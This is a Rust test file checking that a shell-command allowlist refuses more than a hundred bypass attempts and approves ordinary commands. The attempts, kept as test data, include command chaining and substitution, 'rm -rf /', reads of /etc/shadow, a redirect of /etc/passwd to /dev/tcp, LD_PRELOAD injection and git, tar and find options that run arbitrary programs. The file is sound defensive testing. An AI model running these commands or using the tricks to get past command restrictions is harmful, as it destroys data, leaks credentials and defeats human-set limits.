//! A first-word command allowlist cannot be bypassed: more than a hundred
//! distinct attempts to run something other than the allowed programs, all
//! refused — also when the allowlist itself names programs that run other
//! programs. Benign commands are approved.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use north_policy::command::{self, CommandDenied, Refusal};
use north_policy::{MeshPolicy, PolicyDenial, PolicyPreset};

/// A generous allowlist: every program the attempts start with that is
/// harmless on its own.
const GENEROUS: &[&str] = &[
    "ls", "cat", "pwd", "echo", "grep", "find", "head", "tail", "git", "tar", "rsync", "sort",
    "rg", "fd", "man", "less", "zip", "wc", "diff",
];

/// Programs that run other programs or change the shell: refused even when
/// a careless allowlist names them.
const HOSTILE_EXTRAS: &[&str] = &[
    "env",
    "xargs",
    "sh",
    "bash",
    "/bin/sh",
    "eval",
    "exec",
    "python3",
    "python3.12",
    "perl",
    "awk",
    "sed",
    "node",
    "ruby",
    "php",
    "vim",
    "make",
    "sudo",
    "nohup",
    "timeout",
    "nice",
    "watch",
    "script",
    "ssh",
    "busybox",
    "alias",
    "unalias",
    "hash",
    "source",
    ".",
    "command",
    "builtin",
    "time",
    "let",
    "declare",
    "printf",
    "read",
    "test",
    "trap",
    "export",
    "unset",
    "set",
    "shopt",
    "enable",
    "coproc",
    "function",
    "if",
    "for",
    "while",
    "fg",
];

const ATTEMPTS: &[&str] = &[
    // command separators and connectors
    "ls; rm -rf /",
    "ls;rm -rf /",
    "ls ; rm x",
    "ls && curl x",
    "ls&&curl x",
    "ls || rm x",
    "ls | sh",
    "ls|sh",
    "cat x | bash",
    "ls & rm x",
    "ls &rm x",
    "ls |& rm x",
    "ls &",
    "; rm x",
    "ls ;; rm x",
    "ls && && rm x",
    "ls | | rm x",
    "ls;",
    "grep x f | xargs rm",
    // command, parameter and arithmetic substitution
    "ls $(rm x)",
    "ls \"$(rm x)\"",
    "ls `rm x`",
    "ls \"`rm x`\"",
    "$(rm x)",
    "`rm x`",
    "echo $((1+1))",
    "ls ${IFS}",
    "ls$IFS-la;rm x",
    "ls $'\\x3b' rm",
    "ls $\"x\"",
    "echo ${PATH:0:1}",
    "${x:-rm} x",
    "ls $HOME",
    "echo $0",
    // newlines and control characters
    "ls\nrm x",
    "ls\rrm x",
    "ls\t;rm x",
    "ls\u{0}rm x",
    "ls\u{b}rm x",
    "ls \\\nrm x",
    "ls\u{1b}[2J",
    // redirections
    "ls > /etc/x",
    "ls >/etc/x",
    "ls >> ~/.bashrc",
    "ls 2> x",
    "ls 2>&1",
    "ls 1>&2",
    "cat < /etc/shadow",
    "cat <<EOF",
    "cat <<< x",
    "ls >| x",
    "ls &> x",
    "echo x>y",
    "cat /etc/passwd > /dev/tcp/10.0.0.1/80",
    // subshells, groups, brace expansion, process substitution
    "(rm x)",
    "ls (rm x)",
    "{ rm x; }",
    "{rm,-rf,/}",
    "ls {a,b}",
    "cat <(rm x)",
    "ls >(rm x)",
    "diff <(ls) <(rm x)",
    "ls ?(x)",
    "ls @(x|y)",
    // quoting tricks
    "'rm' -rf /",
    "\"rm\" x",
    "r'm' x",
    "l's' ; rm x",
    "ls \"x\" ; rm x",
    "ls 'unterminated",
    "ls \"unterminated",
    "ls \"a$(rm x)\"",
    "ls \"a`rm x`\"",
    "ls \"\\\"; rm x; \\\"\"",
    "\"ls;rm x\"",
    "ls\"\" ;rm x",
    "ls '' && rm x",
    "\"\" rm x",
    "ls \"!!\"",
    // unicode lookalikes
    "ls\u{ff1b}rm x",
    "ls \u{ff06}\u{ff06} rm x",
    "ls\u{a0}rm x",
    "ls\u{2028}rm x",
    "ls \u{37e} rm x",
    "\u{ff4c}\u{ff53}",
    "l\u{455}",
    "ls \u{ff5c} sh",
    "ls\u{200b};rm x",
    "ls \u{202e}x",
    // backslash escapes
    "ls \\; rm x",
    "ls \\n rm x",
    "l\\s",
    "\\rm x",
    "ls \\$(rm x)",
    // IFS and environment tricks
    "IFS=,;ls,rm",
    "IFS=/ ls",
    "ls${IFS}x",
    "X=rm; $X x",
    "PATH=. ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "BASH_ENV=/tmp/x ls",
    "env rm x",
    "env -i rm x",
    // globbing and paths in command names
    "/bin/r? x",
    "/bin/l[s]",
    "/???/?m x",
    "r* x",
    "ls*",
    "~/bin/ls",
    "./ls",
    "/bin/rm x",
    "/usr/bin/ls",
    "../ls",
    // aliases, functions and builtins
    "alias ls=rm",
    "alias ls='rm -rf'; ls",
    "unalias ls",
    "function ls { rm x; }",
    "ls() { rm x; }",
    "hash -p /bin/rm ls",
    "eval rm x",
    "eval 'rm x'",
    "exec rm x",
    "command rm x",
    "builtin eval x",
    "source /tmp/x.sh",
    ". /tmp/x.sh",
    "sh -c 'rm x'",
    "bash -c \"rm x\"",
    "/bin/sh -c 'rm x'",
    "echo x | xargs rm",
    "let 'a[$(rm x)]'",
    "declare -x 'a[$(rm x)]=1'",
    "printf -v 'a[$(rm x)]' x",
    "read 'a[$(rm x)]'",
    "test -v 'a[$(rm x)]'",
    "trap 'rm x' EXIT",
    "set -e",
    "export PATH=/tmp",
    "unset PATH",
    "shopt -s expand_aliases",
    "enable -f x.so x",
    // shell keywords
    "if true; then rm x; fi",
    "for f in x; do rm x; done",
    "while true; do rm x; done",
    "time rm x",
    "coproc rm x",
    "! rm x",
    // history expansion and comments
    "!!",
    "!-1",
    "^ls^rm",
    "ls !$",
    "ls # ; rm x",
    "ls #$(rm x)",
    // programs that run programs
    "sudo rm x",
    "nohup rm x",
    "timeout 1 rm x",
    "nice rm x",
    "watch rm x",
    "script -c 'rm x'",
    "ssh host rm x",
    "busybox rm x",
    "python3 -c 'import os'",
    "python3.12 -c x",
    "perl -e 'system(1)'",
    "awk 'BEGIN{system(\"rm x\")}'",
    "sed -n '1e rm x' f",
    "node -e x",
    "ruby -e x",
    "php -r x",
    "vim -c '!rm x'",
    "make -f x",
    // options of allowed programs that run commands or write files
    "find . -exec rm '{}' ';'",
    "find . -delete",
    "find . -execdir sh -c x ';'",
    "find . -name '*.rs' -ok rm '{}' ';'",
    "find . -fprint /etc/x",
    "find * -print",
    "git -c core.pager=rm log",
    "git -c alias.x='!rm -rf /' x",
    "git --config-env=core.pager=X log",
    "git config core.fsmonitor 'rm x'",
    "git submodule foreach rm x",
    "git rebase -x 'rm x' HEAD~1",
    "git rebase --exec='rm x' HEAD~1",
    "git clone -u 'rm x' repo",
    "git clone --upload-pack='rm x' repo",
    "git fetch --upload-p='rm x' origin",
    "git grep -Orm x",
    "git grep --open-files-in-pager=rm x",
    "git difftool -x rm",
    "git log --output=/etc/x",
    "git archive --remote=x --exec=rm",
    "git bisect run rm x",
    "git filter-branch --tree-filter 'rm x'",
    "git --exec-path=/tmp status",
    "git clone 'ext::sh -c rm% x' dir",
    "git clone ssh://-oProxyCommand=rm/x dir",
    "git log --o=/etc/x",
    "git add *",
    "tar --to-command=rm -xf a.tar",
    "tar -xf a.tar --checkpoint=1 --checkpoint-action=exec=rm",
    "tar -I rm -cf x .",
    "tar cIf rm x .",
    "tar --use-compress-prog=rm -cf x .",
    "rsync -e 'sh -c rm' a b",
    "rsync -avze rm a b",
    "sort --compress-program=rm x",
    "sort -o /etc/x y",
    "rg --pre rm x",
    "fd -x rm",
    "fd --exec rm",
    "man -P rm ls",
    "less '+!rm x' f",
    "zip -TT 'rm x' a.zip f",
    // not allowed at all
    "rm x",
    "kill -9 -1",
    "fg",
    "%1",
    "-ls",
    "=ls",
    "FOO=bar ls",
    "",
    "   ",
];

fn allowlist(extra: &[&str]) -> Vec<String> {
    GENEROUS
        .iter()
        .chain(extra)
        .map(|s| (*s).to_owned())
        .collect()
}

#[test]
fn the_attempts_are_many_and_distinct() {
    let mut unique = ATTEMPTS.to_vec();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(unique.len(), ATTEMPTS.len(), "duplicate attempts");
    assert!(ATTEMPTS.len() >= 100, "{}", ATTEMPTS.len());
}

#[test]
fn no_bypass_attempt_is_approved_by_a_generous_allowlist() {
    let allowed = allowlist(&[]);
    let approved: Vec<_> = ATTEMPTS
        .iter()
        .filter(|a| command::check_allowed(a, &allowed).is_ok())
        .collect();
    assert!(approved.is_empty(), "approved: {approved:#?}");
}

#[test]
fn no_bypass_attempt_is_approved_even_when_indirection_is_allowlisted() {
    let allowed = allowlist(HOSTILE_EXTRAS);
    let approved: Vec<_> = ATTEMPTS
        .iter()
        .filter(|a| command::check_allowed(a, &allowed).is_ok())
        .map(|a| (a, command::parse(a)))
        .collect();
    assert!(approved.is_empty(), "approved: {approved:#?}");
}

#[test]
fn no_bypass_attempt_is_approved_by_any_preset() {
    for preset in [
        PolicyPreset::Conservative,
        PolicyPreset::Balanced,
        PolicyPreset::Permissive,
    ] {
        let policy = MeshPolicy::preset(preset);
        for attempt in ATTEMPTS {
            let denial = policy.check_command(attempt).unwrap_err();
            assert!(
                denial.to_string().starts_with("Command denied by policy"),
                "{denial}"
            );
        }
    }
}

#[test]
fn connectors_are_split_and_every_command_is_checked() {
    // Attempts that parse are lists of simple commands; the allowlist then
    // judges each one, so a disallowed program anywhere denies the line.
    let cmds = command::split("ls; rm -rf / && cat x | curl y").unwrap();
    let programs: Vec<_> = cmds.iter().map(|c| c.program.as_str()).collect();
    assert_eq!(programs, ["ls", "rm", "cat", "curl"]);
    let err = command::check_allowed("ls; rm -rf /", &allowlist(&[])).unwrap_err();
    assert_eq!(
        err,
        CommandDenied::NotAllowed {
            program: "rm".to_owned()
        }
    );
}

const BENIGN: &[&str] = &[
    "ls",
    "ls -la",
    "ls -la src/",
    "cat README.md",
    "grep -rn 'fn main' src",
    "grep -n \"a b\" file.txt",
    "grep -E 'foo|bar' notes.txt",
    "grep -c TODO *.rs",
    "ls | grep foo",
    "ls && pwd",
    "pwd; ls",
    "ls -la || echo none",
    "cat a.txt | head -n 5 | tail -n 2",
    "git status",
    "git log --oneline -n 5",
    "git diff HEAD~1 -- src/lib.rs",
    "git add -u",
    "git commit -m \"fix: handle errors\"",
    "git -C sub status",
    "find . -name '*.rs'",
    "find src -type f -name \"*.toml\"",
    "echo hello world",
    "echo 'a;b|c&d$e`f`'",
    "echo --flag=value",
    "ls ~",
    "ls a,b:c+d%e@f",
    "tar -tf archive.tar",
    "sort -u names.txt",
    "head -n 20 src/main.rs",
    "wc -l src/lib.rs",
    "diff -u a.txt b.txt",
];

#[test]
fn benign_commands_are_approved() {
    let allowed = allowlist(&[]);
    for line in BENIGN {
        let result = command::check_allowed(line, &allowed);
        assert!(result.is_ok(), "{line}: {}", result.unwrap_err());
    }
}

#[test]
fn approved_commands_are_split_and_unquoted() {
    let allowed = allowlist(&[]);
    let cmds =
        command::check_allowed("echo 'a;b' \"c d\" && ls | grep -E 'x|y'", &allowed).unwrap();
    let programs: Vec<_> = cmds.iter().map(|c| c.program.as_str()).collect();
    assert_eq!(programs, ["echo", "ls", "grep"]);
    assert_eq!(cmds[0].args, ["a;b", "c d"]);
    assert_eq!(cmds[2].args, ["-E", "x|y"]);
}

#[test]
fn the_balanced_preset_approves_its_own_commands_only() {
    let policy = MeshPolicy::default();
    for ok in [
        "ls -la",
        "cat x",
        "pwd",
        "echo hi",
        "grep -r x .",
        "ls | grep x",
    ] {
        assert!(policy.check_command(ok).is_ok(), "{ok}");
    }
    for denied in ["find .", "head x", "git status", "ls | head"] {
        let err = policy.check_command(denied).unwrap_err();
        assert!(matches!(
            err,
            PolicyDenial::Command(CommandDenied::NotAllowed { .. })
        ));
    }
}

#[test]
fn refusals_say_what_and_where() {
    let allowed = allowlist(&[]);
    let shown = |line: &str| {
        command::check_allowed(line, &allowed)
            .unwrap_err()
            .to_string()
    };
    insta::assert_snapshot!(
        "policy_refusal_messages",
        [
            "ls; rm -rf /",
            "ls $(rm x)",
            "ls > /etc/x",
            "ls\nrm",
            "ls\u{ff1b}rm",
            "'rm' x",
            "FOO=1 ls",
            "eval x",
            "find . -exec rm '{}' ';'",
            "find * -print",
            "ls |",
            "echo 'open",
        ]
        .iter()
        .map(|line| format!("{line:?} -> {}", shown(line)))
        .collect::<Vec<_>>()
        .join("\n")
    );
    let err = MeshPolicy::default().check_command("rm -rf /").unwrap_err();
    assert_eq!(
        err.to_string(),
        "Command denied by policy: `rm` is not in allowed_commands"
    );
    assert!(matches!(
        command::parse("ls &"),
        Err(Refusal::Syntax { at: 3, .. })
    ));
}
